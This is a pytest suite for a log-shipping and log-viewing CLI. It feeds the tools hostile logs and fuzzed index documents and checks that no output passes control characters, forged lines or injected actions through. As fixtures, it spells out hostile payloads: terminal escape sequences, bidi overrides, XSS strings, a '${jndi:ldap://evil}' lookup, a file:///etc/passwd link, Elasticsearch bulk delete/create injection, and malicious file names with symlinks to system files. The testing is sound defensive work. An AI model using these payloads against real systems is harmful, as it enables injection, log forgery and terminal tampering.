"""Logs made by somebody hostile: whatever they contain and are called, no command passes it on as a command."""

from __future__ import annotations

import contextlib
import json
import os
import random
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import click
import orjson
import pytest
from elasticsearch import Elasticsearch

from shipper.cli import logs as logs_program
from shipper.cli import ship as ship_program
from shipper.config import DATASETS, Redact
from shipper.deliver.dead_letters import DeadLetters
from shipper.elastic.names import run_index
from shipper.elastic.outcomes import Outcome, Verdict
from shipper.redact.redactor import Redactor
from shipper.runs.index import make_run_index
from shipper.testnode.node import Node
from tests.conformance.harness import Harness, as_before
from tests.elasticsearch.screens import parts_of, terminal_of, with_environment, with_streams
from tests.fuzz.limits import Fields, fields_of_logs, fields_of_runs

UNSAFE = [
    *(chr(code) for code in range(1, 0x20) if chr(code) not in "\t\n"), *map(chr, range(0x7F, 0xA0)),
    "\u061c", "\u200e", "\u200f", "\u2028", "\u2029", *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
]  # fmt: skip
FORGED = "\nFORGED 2026-11-27T12:00:00.000Z ERROR this line is a lie"
MARKUP = (
    "[red]r[/red] [link=file:///etc/passwd]l[/link] ![i](http://evil.example/x.png) [a](javascript:alert(1)) "
    '<script>alert(1)</script> {{context.rule.name}} {{{params}}} ${jndi:ldap://evil} :boom: * OR (a:b) "'
)
EVIL = (
    "".join(UNSAFE) + "\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x1b[8m\x1b[31m\x9b31m"
    f"\u202egnp.exe {MARKUP}\r{FORGED}"
)
BULK = '\n{"delete":{"_index":"logs-neuroflow.app-default","_id":"1"}}\n{"create":{"_index":"evil"}}\n{}\n'
NAMES = (
    b"\x1b]0;owned\x07\x1b[2J.log", b"a\nFORGED line\r.log", b"\x9b31m\xff\xc2\x9b2J.log",
    b"x\xe2\x80\xaegol.exe.log", b"[red]x[bold][link=a].log", b"{{context}}<script>.log", b"n" * 230 + b".log",
)  # fmt: skip
DAY = "2026-11-27T12:00"


def _event(second: int, event: str, **more: Any) -> str:
    return json.dumps({**more, "event": event, "@timestamp": f"{DAY}:{second:02d}+00:00"}, ensure_ascii=False)


def _application() -> bytes:
    """Every field that a view shows, with hostile text in it."""
    everywhere = {
        "component": EVIL, "stage": EVIL, "pipeline": EVIL, "subject_id": EVIL, "session_id": EVIL, "error": EVIL,
        "errors": [EVIL], "trigger": EVIL, "duration": EVIL, "logger": EVIL, EVIL: EVIL, "task_id": EVIL,
        "exception": f"Traceback (most recent call last):\n  File {EVIL}\nEvil: {EVIL}",
    }  # fmt: skip
    lines = [
        _event(1, "workflow.started", workflow_run_id=7, **everywhere),
        _event(2, "pipeline.queued", run_id=8, workflow_run_id=7, **everywhere),
        _event(3, "pipeline.started", run_id=8, workflow_run_id=7, **everywhere),
        _event(4, "pipeline.failed", run_id=8, workflow_run_id=7, **everywhere),
        _event(5, "stage.failed", workflow_run_id=7, **everywhere),
        _event(6, "workflow.failed", workflow_run_id=7, **everywhere),
        _event(7, EVIL, level=EVIL, run_id=EVIL, workflow_run_id=EVIL, **everywhere),
        _event(8, BULK, level="error", **everywhere),
        _event(9, "task.failed", task_name=EVIL, level="error", **everywhere),
    ]
    return "".join(f"{line}\n" for line in lines).encode() + b"raw \x9b31m \xff\xfe \x1b]0;owned\x07 " + EVIL.encode()


def _audit() -> bytes:
    row = {"timestamp": f"{DAY}:01", "entity_type": EVIL, "entity_id": 1, "action": EVIL, "message": EVIL}
    row |= {"old_value": EVIL, "new_value": EVIL, "triggered_by": EVIL, "user_id": EVIL, "details": {EVIL: EVIL}}
    return json.dumps(row, ensure_ascii=False).encode() + b"\n"


PIPELINE = f"=== STDOUT ===\n{EVIL}\n=== STDERR ===\n{BULK}".encode() + b"\x9b31m\xff\xfe\n"
TASK = f"[{DAY.replace('T', ' ')}:01,000: ERROR/MainProcess] Task a.b[7be20d11-06d5-4d0f-8f0c-b0d3cb6e7a10] {{}}\n"


def _write(logs: Path) -> None:
    for file, data in (
        ("neuroflow.log", _application()), ("audit/audit_2026_11.jsonl", _audit()),
        ("pipelines/qsiprep/qsiprep_8_20261127_120003.log", PIPELINE),
        ("celery/worker.log", f"{TASK.format('received')}{TASK.format(f'raised unexpected: E(1){EVIL}')}".encode()),
        ("neuroflow.log.1", b"\x28\xb5\x2f\xfd not read"), ("neuroflow-debug.log", b"12:00:00 not ours\n"),
    ):  # fmt: skip
        (logs / file).parent.mkdir(parents=True, exist_ok=True)
        (logs / file).write_bytes(data)
    for at, name in enumerate(NAMES):
        path = os.fsencode(logs / "celery") + b"/" + name
        with open(path, "wb") as out:  # noqa: PTH123 - names that are no text
            out.write(f"{DAY}:00 line of file {at}\n".encode())
        # What is not read has such names as well: links out, pipes, packed files.
        os.symlink("/etc/hostname", path.replace(b"/celery/", b"/pipelines/qsiprep/"))  # noqa: PTH211 - as above
        with open(path + b".1", "wb") as out:  # noqa: PTH123 - as above
            out.write(b"PK\x03\x04")
    os.mkfifo(logs / "huey.log")
    target = os.fsencode(logs.parent) + b"/" + NAMES[0] + NAMES[1]
    with open(target, "wb") as out:  # noqa: PTH123 - as above
        out.write(b"not ours\n")
    os.symlink(target, os.fsencode(logs) + b"/worker.log")  # noqa: PTH211 - as above


def _letters(state: Path) -> None:
    document = {"message": EVIL, "log": {"file": {"path": f"/logs/{EVIL}"}, "offset": 7}}
    action = b'{"create":{"_index":"logs-neuroflow.app-none","_id":"x"}}\n'
    verdict = Verdict(Outcome.DEAD, 400, f"kind{EVIL}", f"preview: {EVIL}")
    letters = DeadLetters(state, lambda: "2026-11-27T00:00:00+00:00", Redactor(Redact()))
    letters.append([(action + orjson.dumps(document) + b"\n", EVIL.encode(), verdict)])


@pytest.fixture(scope="module")
def hostile(node: Node, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    """A hostile log directory, shipped; what the sidecar logged meanwhile is in ``once.log``."""
    harness = Harness(tmp_path_factory.mktemp("hostile"), node.url, f"hostile{os.getpid()}")
    _write(harness.logs)
    (harness.folder / "once.log").write_bytes(
        subprocess.run(harness.command("--once"), capture_output=True, check=False, timeout=60).stderr
    )
    _letters(harness.state)
    yield harness
    harness.close()


# Each command of both programs, with the arguments of its calls.
RENDERED = [[], ["--format", "json"], ["--format", "ndjson"]]
COMMANDS: dict[str, list[list[str]]] = {
    "neuroflow-ship": [["--once"]],
    "neuroflow-ship setup": [["--dry-run"]],
    "neuroflow-ship export kibana": [[]],
    "neuroflow-ship export rules": [[]],
    "neuroflow-ship init": [[]],
    "neuroflow-ship status": [[], ["--all"], ["--json"]],
    "neuroflow-ship check": [[], ["--json"]],
    "neuroflow-ship dead-letters list": [[], ["--json"]],
    "neuroflow-ship dead-letters replay": [[]],
    "neuroflow-ship rebuild-runs": [[]],
    "neuroflow-logs show": [
        *([*dataset, *form] for dataset in ([], ["--dataset", "pipeline"]) for form in RENDERED),
        ["--component", EVIL], ["--level", EVIL], ["--since", EVIL],
    ],
    "neuroflow-logs pipeline": [["8", *form] for form in RENDERED],
    "neuroflow-logs audit": [*RENDERED, ["--entity", EVIL]],
    "neuroflow-logs workflow": [*RENDERED, *(["7", *form] for form in RENDERED)],
    "neuroflow-logs stats": [
        [*kind, *form] for kind in ([], ["pipelines"], ["failures"], ["queue"]) for form in RENDERED
    ],
    "neuroflow-logs tasks": RENDERED,
    "neuroflow-logs search": [
        *(["FORGED", *form] for form in RENDERED), ["FORGED", "-C", "1"], ["*"], [f'"{EVIL}"'], [f"/{EVIL}"],
        [f"level:{EVIL}"],
    ],
    "neuroflow-logs completion": [["bash"], ["zsh"], ["fish"]],
}  # fmt: skip
# It starts a node and an application of its own: nothing hostile comes in.
ELSEWHERE = {"neuroflow-ship demo"}
PROGRAMS: dict[str, tuple[click.Group, Callable[[], None]]] = {
    "neuroflow-ship": (ship_program.ship, ship_program.main),
    "neuroflow-logs": (logs_program.logs, logs_program.main),
}


def _leaves(command: click.Command, name: str) -> Iterator[str]:
    if not isinstance(command, click.Group) or command.invoke_without_command:
        yield name
    if isinstance(command, click.Group):
        for inner, one in command.commands.items():
            yield from _leaves(one, f"{name} {inner}")


def test_every_command_is_tried() -> None:
    """A new command has to be added to the ones that are tried here."""
    there = {leaf for name, (group, _) in PROGRAMS.items() for leaf in _leaves(group, name)}
    assert COMMANDS.keys() == there - ELSEWHERE


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_passes_it_on(hostile: Harness, command: str, *, terminal: bool) -> None:
    """What is printed, to a terminal or a pipe, has no control characters, and no line that a log began."""
    for arguments in COMMANDS[command]:
        printed = _run(hostile, command, arguments, terminal=terminal)
        if command == "neuroflow-logs pipeline" and arguments == ["8"]:
            if not terminal:
                assert PIPELINE == printed
                continue
            text = printed.decode()
        else:
            text = printed.decode()
            assert not [line for line in text.split("\n") if line.startswith("FORGED")], arguments
        assert not [(mark, text[max(0, text.index(mark) - 80) :][:160]) for mark in UNSAFE if mark in text], arguments
        assert 'Traceback (most recent call last):\n  File "/' not in text, text


def test_its_own_log(hostile: Harness) -> None:
    """The sidecar's log names what is not read, a line each, with nothing of a name's own making."""
    text = (hostile.folder / "once.log").read_text()
    assert not [mark for mark in UNSAFE if mark in text]
    assert not [line for line in text.splitlines() if line.startswith("FORGED")]
    assert "FORGED line" in text


def test_follow(hostile: Harness) -> None:
    """Following prints as safely, on a terminal and in a pipe."""
    for terminal in (True, False):
        ours, theirs = terminal_of(120) if terminal else os.pipe()
        process = subprocess.Popen(
            hostile.command("show", "-f", "--dataset", "app", module="shipper.cli.logs"),
            stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs,
            env={**os.environ, "NO_COLOR": "1", "TERM": "xterm"},
        )  # fmt: skip
        os.close(theirs)
        printed = b""
        with contextlib.suppress(OSError):
            while b"FORGED" not in printed and (part := os.read(ours, 65536)):
                printed += part
        process.terminate()
        process.wait(timeout=60)
        os.close(ours)
        text = printed.decode("utf-8", "ignore").replace("\r\n", "\n")
        assert "FORGED" in text
        assert not [mark for mark in UNSAFE if mark in text]
        assert not [line for line in text.split("\n") if line.startswith("FORGED")]


def test_nothing_but_its_lines_is_in_the_index(hostile: Harness, es: Elasticsearch) -> None:
    """No line of a log became an action: no index of another name, no deletion, one document a record."""
    hostile._es = es
    assert not es.indices.exists(index="evil")
    messages = [document["message"] for document in hostile.documents("app")]
    assert [BULK] == [message for message in messages if '"delete"' in message]
    assert len(NAMES) == len([one for one in hostile.documents("celery") if "line of file" in one["message"]])


def _value(dice: random.Random, kind: str) -> Any:
    """A value that a field of this type takes, and that no log of ours has."""
    if kind in {"date", "date_nanos"}:
        return dice.choice((f"{DAY}:00Z", "1970-01-01T00:00:00Z", "2261-12-31T23:59:59.999999999Z"))
    if kind == "long":
        return dice.choice((0, -1, 2**63 - 1, -(2**63), [3, 2, 1]))
    if kind == "double":
        return dice.choice((0.0, -1.5, 1e308, -1e308, [0.5, 1e-300]))
    if kind == "flattened":
        return {EVIL: EVIL, MARKUP: [EVIL, BULK], "a": {"b": ["1", "2"]}}
    if kind == "constant_keyword":
        return None
    return dice.choice(
        (EVIL, EVIL, BULK, "", " ", "\t", "x" * 20_000, [EVIL, "b", ""], "8", "7", "failed", "running")
    )


SINGLE = {"log.file.path", "neuroflow.generation", "log.offset"}


def _documents(dice: random.Random, fields: Fields, count: int) -> Iterator[dict[str, Any]]:
    """Documents whose fields have any values of their types."""
    for _ in range(count):
        document: dict[str, Any] = {}
        for name, definition in fields.items():
            if dice.random() < 0.6 and (value := _value(dice, definition["type"])) is not None:
                # What the lines around a match are grouped by has one value in every document of a sidecar.
                document[name] = value[0] if name in SINGLE and isinstance(value, list) else value
        yield {**document, "@timestamp": f"{DAY}:{dice.randrange(60):02d}.{dice.randrange(10**9):09d}Z"}


@pytest.fixture(scope="module")
def fuzzed(node: Node, es: Elasticsearch, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    """An index of documents that no sidecar made."""
    harness = Harness(tmp_path_factory.mktemp("fuzzed"), node.url, f"fuzzed{os.getpid()}", es)
    harness.ask("setup")
    dice, operations = random.Random(7), list[dict[str, Any]]()
    for dataset in DATASETS:
        for document in _documents(dice, fields_of_logs(), 60):
            document["event.dataset"] = document["data_stream.dataset"] = f"neuroflow.{dataset}"
            document |= {"data_stream.type": "logs", "data_stream.namespace": harness.namespace}
            operations += [{"create": {"_index": f"logs-neuroflow.{dataset}-{harness.namespace}"}}, document]
    make_run_index(es, run_index(harness.namespace))
    for at, document in enumerate(_documents(dice, fields_of_runs(), 60)):
        kind = dice.choice(("workflow_run", "pipeline_run", "session"))
        identity = "workflow_run:7" if not at else f"{kind}:{at}"
        document |= {"kind": kind, "facts": {}}
        operations += [{"index": {"_index": run_index(harness.namespace), "_id": identity}}, document]
    answer = es.bulk(operations=operations, refresh=True)
    taken = [item for item in answer["items"] if next(iter(item.values()))["status"] < 300]
    assert len(taken) > len(answer["items"]) / 2, answer["items"][:2]
    yield harness
    harness.close()


@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("command", [one for one in COMMANDS if one.startswith("neuroflow-logs")])
def test_views_of_any_documents(fuzzed: Harness, command: str, *, terminal: bool) -> None:
    """Whatever values the fields have, every view is printed to its end, and as safely."""
    for arguments in COMMANDS[command]:
        text = _run(fuzzed, command, arguments, terminal=terminal).decode("utf-8", "replace")
        if (command, arguments, terminal) == ("neuroflow-logs pipeline", ["8"], False):
            continue
        assert not [mark for mark in UNSAFE if mark in text], arguments
        assert not [line for line in text.split("\n") if line.startswith("FORGED")], arguments


def _run(harness: Harness, command: str, arguments: list[str], *, terminal: bool) -> bytes:
    """What a command writes to its standard streams, both to one terminal or pipe; it runs in this process."""
    program, *path = command.split(" ")
    ours, theirs = terminal_of(120) if terminal else os.pipe()
    shown: list[bytes] = []
    reading = threading.Thread(target=lambda: shown.extend(parts_of(ours)))
    reading.start()
    try:
        with (
            as_before(),
            with_environment(COLUMNS=None, TERM="dumb", NO_COLOR="1"),
            with_streams(theirs),
            pytest.MonkeyPatch.context() as patch,
            contextlib.suppress(SystemExit),
        ):
            patch.setattr(sys, "argv", [program, "--config", str(harness.config), *path, *arguments])
            PROGRAMS[program][1]()
    finally:
        os.close(theirs)
        reading.join()
        os.close(ours)
    return b"".join(shown).replace(b"\r\n", b"\n") if terminal else b"".join(shown)
